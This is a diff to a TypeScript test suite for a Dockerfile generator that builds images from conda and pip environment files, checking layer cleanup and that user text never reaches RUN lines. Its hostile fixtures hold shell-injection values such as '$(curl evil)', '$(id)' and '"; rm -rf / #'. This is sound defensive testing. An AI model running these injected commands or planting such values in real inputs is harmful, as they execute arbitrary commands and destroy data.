@@ -82,7 +82,68 @@ describe("determinism", () => {
   });
 });
 
+/** The Dockerfile's instructions, continuation lines joined. */
+function instructions(dockerfile: string): string[] {
+  return dockerfile
+    .replace(/\\\n/g, "")
+    .split("\n")
+    .filter((l) => l !== "" && !l.startsWith("#"));
+}
+
+describe("the build directory is removed in the RUN that installs from it", () => {
+  const buildDir = "/tmp/dask-fargate-build";
+  const wheel = { contextPath: "local/wheels/pkg-1.0-py3-none-any.whl", content: Buffer.from("wheel") };
+  const lockfile = [
+    "@EXPLICIT",
+    "https://conda.anaconda.org/conda-forge/linux-64/dask-core-2024.8.2-py_0.conda",
+    "https://conda.anaconda.org/conda-forge/noarch/distributed-2024.8.2-pyhd8ed1ab_0.conda",
+  ].join("\n");
+  const cases: [string, string, string, RenderOptions, boolean][] = [
+    ["conda only", "environment.yml", "dependencies: [dask]\n", {}, false],
+    ["conda and pip with a local wheel", "environment.yml", "dependencies:\n  - dask\n  - pip:\n    - ./wheels/pkg-1.0-py3-none-any.whl\n", {}, true],
+    ["requirements on micromamba", "requirements.txt", "dask\n./wheels/pkg-1.0-py3-none-any.whl\n", {}, true],
+    ["explicit lockfile", "conda.lock", lockfile, {}, false],
+    ["requirements on a pip base", "requirements.txt", "dask\n./wheels/pkg-1.0-py3-none-any.whl\n", { baseImage: "python:3.12-slim" }, true],
+  ];
+  test.each(cases)("%s", (_, file, text, options, local) => {
+    const spec = parseEnvironment(file, text);
+    const context = renderBuildContext(local ? { ...spec, localFiles: [wheel] } : spec, options);
+    let present = false;
+    for (const instruction of instructions(context.dockerfile)) {
+      if (instruction.startsWith("COPY ") && instruction.includes(` ${buildDir}/`)) present = true;
+      if (instruction.startsWith("RUN ") && instruction.includes(buildDir)) {
+        // Removed in the same instruction (so the same layer) that reads it, as its last command.
+        expect(instruction).toMatch(new RegExp(` && rm -rf ${buildDir}$`));
+        present = false;
+      }
+    }
+    expect(present).toBe(false);
+  });
+});
+
 describe("user text never reaches a RUN line", () => {
+  test("RUN instructions are the same for harmless and hostile environments of the same shape", () => {
+    const runs = (text: string, labels: Record<string, string>) =>
+      instructions(renderBuildContext(parseEnvironment("environment.yml", text), { labels, buildArgNames: ["PIP_INDEX_URL"] }).dockerfile).filter((l) =>
+        l.startsWith("RUN "),
+      );
+    const plain = runs("name: x\ndependencies:\n  - dask\n  - pip:\n    - rich\nvariables:\n  A: '1'\n", { "com.example.team": "a" });
+    const hostile = runs(
+      [
+        "name: '$(curl evil)'",
+        "channels: ['https://conda.example.com/$(id)`id`']",
+        "dependencies:",
+        "  - dask",
+        "  - pip:",
+        "    - 'evil @ https://example.com/x.whl?a=$(id)&b=`id`'",
+        "variables:",
+        `  EVIL: '"; rm -rf / #\\'`,
+      ].join("\n"),
+      { "com.example.team": "$(id) `id` \\" },
+    );
+    expect(hostile).toEqual(plain);
+  });
+
   test("hostile names and values stay in COPY'd files or escaped ENV/LABEL values", () => {
     const text = [
       "name: '$(curl evil)'",
@@ -96,7 +157,8 @@ describe("user text never reaches a RUN line", () => {
     const context = renderBuildContext(parseEnvironment("environment.yml", text));
     const runLines = context.dockerfile.split("\n").filter((l) => /^(RUN|\s{4}(&&|\|\|))/.test(l));
     for (const line of runLines) {
-      expect(line).not.toMatch(/evil|rm -rf|\$\(/);
+      // The fixed "rm -rf /tmp/dask-fargate-build" is ours; the hostile value is "rm -rf / #".
+      expect(line).not.toMatch(/evil|rm -rf \/ |\$\(/);
     }
     expect(context.dockerfile).toContain('ENV EVIL="\\"; rm -rf / #"');
     expect(context.files.get("requirements.txt")?.toString()).toContain("$(id)");
